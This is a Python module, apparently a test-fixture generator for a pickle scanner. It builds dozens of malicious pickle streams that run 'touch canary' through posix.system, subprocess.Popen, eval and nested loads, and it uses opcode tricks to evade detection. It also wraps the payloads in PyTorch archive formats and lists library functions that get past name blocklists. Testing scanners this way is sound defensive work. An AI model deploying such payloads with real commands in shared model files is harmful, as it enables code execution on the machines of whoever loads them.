"""Generators of pickles that would touch a canary file, were they loaded. Nothing here does anything else."""

from __future__ import annotations

import io
import os
import pickle
import posix
import struct
import zipfile
from typing import Any

CANARY = "canary"


class Calls:
    """Reduces to a call, with whatever else a reduction can carry."""

    def __init__(self, function: Any, *args: Any, more: tuple[Any, ...] = ()) -> None:
        self.reduction = (function, args, *more)

    def __reduce__(self) -> Any:
        return self.reduction


def command() -> str:
    return f"touch {os.path.abspath(CANARY)}"


def payload(protocol: int = 4) -> bytes:
    return pickle.dumps(Calls(posix.system, command()), protocol)


def short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    return b"\x8c" + bytes([len(text.encode())]) + text.encode()


def line(text: str) -> bytes:
    return text.encode() + b"\n"


def by_hand() -> dict[str, bytes]:
    """Streams that load and act under CPython's own unpickler, by the way in which they do."""
    said = command()
    call = short(said) + b"\x85R."
    old = b"(S'" + said.encode() + b"'\n"
    nested = payload(2)
    return {
        "GLOBAL": b"cposix\nsystem\n" + old + b"tR.",
        "GLOBAL of the dotted alias": b"cos\nsystem\n" + old + b"tR.",
        "INST": old + b"iposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\n" + old[1:] + b"o.",
        "STACK_GLOBAL": b"\x80\x04" + short("posix") + short("system") + b"\x93" + call,
        "STACK_GLOBAL of strings of protocol 0": b"\x80\x04S'posix'\nS'system'\n\x93" + call,
        "STACK_GLOBAL of escaped strings": b"\x80\x04S'p\\x6fsix'\nS'\\163ystem'\n\x93" + call,
        "STACK_GLOBAL of BINSTRING": b"\x80\x04T\x05\0\0\0posixU\x06system\x93" + call,
        "STACK_GLOBAL of UNICODE": b"\x80\x04Vp\\u006fsix\nVsystem\n\x93" + call,
        "STACK_GLOBAL of BINUNICODE8": b"\x80\x04\x8d" + struct.pack("<Q", 5) + b"posixX\x06\0\0\0system\x93" + call,
        "STACK_GLOBAL of strings from MEMOIZE": b"\x80\x04" + short("system") + b"\x94" + short("posix") + b"\x940h\x01h\0\x93" + call,
        "STACK_GLOBAL of strings put backwards": b"\x80\x04" + short("system") + b"r\x05\0\0\x000" + short("posix") + b"q\x020h\x02j\x05\0\0\0\x93" + call,
        "STACK_GLOBAL of strings in lines": b"\x80\x04" + short("system") + b"p7\n0" + short("posix") + b"p3\n0g3\ng7\n\x93" + call,
        "strings put over others": b"\x80\x04" + short("torch") + b"q\x000" + short("posix") + b"q\x000h\0" + short("system") + b"\x93" + call,
        "strings around a mark": b"\x80\x04" + short("posix") + b"(N1" + short("system") + b"\x93" + call,
        "strings doubled and popped": b"\x80\x04" + short("posix") + b"20N0" + short("system") + b"\x93" + call,
        "function through the memo": b"\x80\x02cposix\nsystem\nq\x000h\0X" + struct.pack("<I", len(said)) + said.encode() + b"\x85R.",
        "NEWOBJ of a class that acts": b"\x80\x02csubprocess\nPopen\n(X\x05\0\0\0touchX" + struct.pack("<I", len(said) - 6) + said[6:].encode() + b"l\x85R.",
        "BUILD with __setstate__": pickle.dumps(Calls(eval, "type('T',(),{'__setstate__':lambda s,c:__import__('os').system(c)})()", more=(said,)), 2),
        "frames that lie short": b"\x80\x04\x95\x01\0\0\0\0\0\0\0N0" + short("posix") + short("system") + b"\x93" + call,
        "frames in frames": b"\x80\x04\x95\x0a\0\0\0\0\0\0\0\x95\0\0\0\0\0\0\0\0N0" + short("posix") + short("system") + b"\x93" + call,
        "protocol said late": b"N0\x80\x04" + short("posix") + short("system") + b"\x93" + call,
        "behind many marks": b"(" * 400 + b"1" * 400 + b"cposix\nsystem\n" + old + b"tR.",
        "Python 2 name": b"c__builtin__\neval\n(S'__import__(\\'os\\').system(\\'" + said.encode() + b"\\')'\ntR.",
        "computed function": b"\x80\x04" + short("builtins") + short("getattr") + b"\x93" + short("builtins") + short("__import__") + b"\x93" + short("posix") + b"\x85R" + short("system") + b"\x86R" + call,
        "indirection by operator": b"\x80\x04" + short("operator") + short("methodcaller") + b"\x93" + short("system") + short(said) + b"\x86R" + short("builtins") + short("__import__") + b"\x93" + short("posix") + b"\x85R\x85R.",
        "nested and loaded": b"\x80\x04" + short("pickle") + short("loads") + b"\x93C" + bytes([len(nested)]) + nested + b"\x85R.",
        "before a broken tail": b"cposix\nsystem\n" + old + b"tR\xff\xff\xff",
        "before a truncated tail": b"cposix\nsystem\n" + old + b"tRX\xff\xff\xff\x7f",
        "before an empty stack": b"cposix\nsystem\n" + old + b"tR00000",
        "without STOP": b"cposix\nsystem\n" + old + b"tR",
        "behind another pickle": pickle.dumps({"weights": [1.0]}, 4) + payload(),
        "beside plain data": pickle.dumps({"weights": [1.0, 2.0], "bias": Calls(posix.system, command())}, 4),
        "in the state of a set": pickle.dumps({frozenset([1]): Calls(posix.system, command())}, 0),
        "as a key's value in DICT": b"(S'a'\ncposix\nsystem\n" + old + b"tRd.",
        "in a persistent id": b"\x80\x04" + short("posix") + short("system") + b"\x93" + short(said) + b"\x85RQ.",
    }  # fmt: skip


def libraries() -> dict[str, tuple[str, str]]:
    """Functions by which lists of forbidden names were passed: no list is needed to find them."""
    return {
        name: (module, name)
        for module, name in (
            ("pip._internal.cli.main", "main"), ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
            ("runpy", "_run_code"), ("bdb", "Bdb.run"), ("cProfile", "runctx"), ("timeit", "timeit"), ("doctest", "debug_script"),
            ("idlelib.pyshell", "ModifiedInterpreter.runcommand"), ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
            ("numpy.f2py.crackfortran", "getlincoef"), ("numpy.testing._private.utils", "runstring"), ("torch._dynamo.guards", "GuardBuilder.get"),
            ("torch.utils.bottleneck.__main__", "run_cprofile"), ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
            ("torch.utils._config_module", "ConfigModule.load_config"), ("torch.utils.collect_env", "run"), ("torch.hub", "load"),
            ("torch.storage", "_load_from_bytes"), ("torch.jit.unsupported_tensor_ops", "execWrapper"), ("distutils.file_util", "write_file"),
            ("shutil", "rmtree"), ("pty", "spawn"), ("ctypes", "CDLL"), ("code", "InteractiveInterpreter.runcode"), ("profile", "Profile.run"),
            ("trace", "Trace.run"), ("logging.config", "listen"), ("ensurepip", "_run_pip"), ("pydoc", "pipepager"), ("venv", "create"),
            ("functools", "partial"), ("builtins", "getattr"), ("marshal", "loads"), ("types", "FunctionType"), ("importlib", "import_module"),
            ("uuid", "_get_command_stdout"), ("imaplib", "IMAP4_stream"), ("smtplib", "SMTP"), ("urllib.request", "urlopen"), ("webbrowser", "open"),
            ("numpy", "load"), ("numpy.core.multiarray", "fromfile"), ("collections", "namedtuple"), ("torch", "load"), ("torch._utils", "_import_dotted_name"),
        )
    }  # fmt: skip


def as_torch_zip(pickled: bytes, **records: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", "3\n")
        for name, data in records.items():
            archive.writestr(f"archive/{name}", data)
    return out.getvalue()


def as_legacy(pickled: bytes) -> bytes:
    head = b"".join(pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    return head + pickled + pickle.dumps([], 2)
